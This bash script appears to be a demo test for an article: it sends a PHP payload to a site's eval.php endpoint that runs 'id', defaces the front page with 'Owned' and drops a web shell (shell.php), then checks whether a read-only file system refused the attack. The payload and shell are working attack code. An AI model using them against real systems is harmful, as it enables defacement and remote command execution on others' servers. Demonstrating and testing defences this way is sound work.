#!/usr/bin/env bash
# The article's intruder: has the site run PHP through its hole, which defaces the front page and
# drops a web shell.  attack.sh landed|refused  succeeds only when that is what came of it.
# ZERO_DRIFT_URL says where the site is; what the site answered goes to DEMO_ANSWER, if set.
set -euo pipefail

readonly EXPECTED="${1:?expected: landed or refused}"
# shellcheck disable=SC2016 # PHP's variables, not ours
readonly PAYLOAD='
system("id");
system("(echo Owned > /var/www/html/index.html) 2>&1");
file_put_contents("/var/www/html/shell.php", "<?php system(\$_GET[\"c\"]);") or print error_get_last()["message"] . "\n";
'

main() {
  local answer
  answer="$(get /eval.php --get --data-urlencode "cmd=$PAYLOAD")"
  tee "${DEMO_ANSWER:-/dev/null}" <<<"$answer"
  # An attack that never ran would look refused. Only a program in the container says this.
  expect_in 'uid=33(www-data)' "$answer" 'the answer to the attack'
  case "$EXPECTED" in
    landed) expect_landed ;;
    refused) expect_refused "$answer" ;;
    *) fail "'$EXPECTED' is no outcome. Expected landed or refused." ;;
  esac
}

expect_landed() {
  expect_in Owned "$(get /)" 'the front page'
  expect_in 'uid=33(www-data)' "$(get '/shell.php?c=id')" 'the answer of the web shell'
}

expect_refused() {
  expect_in 'index.html: Read-only file system' "$1" 'the answer to the attack'
  expect_in 'shell.php): Failed to open stream: Read-only file system' "$1" 'the answer to the attack'
  expect_in Welcome "$(get /)" 'the front page after the attack'
  expect_in 404 "$(get /shell.php --no-fail --output /dev/null --write-out '%{http_code}')" 'the status of /shell.php'
}

# A proxy for the internet would not know the container.
get() {
  curl --silent --show-error --fail --max-time 10 --noproxy '*' "${@:2}" "$ZERO_DRIFT_URL$1"
}

expect_in() {
  [[ "$2" == *"$1"* ]] || fail "$3 should contain '$1', but is '$2'."
}

fail() {
  echo "attack.sh: $1" >&2
  exit 1
}

main
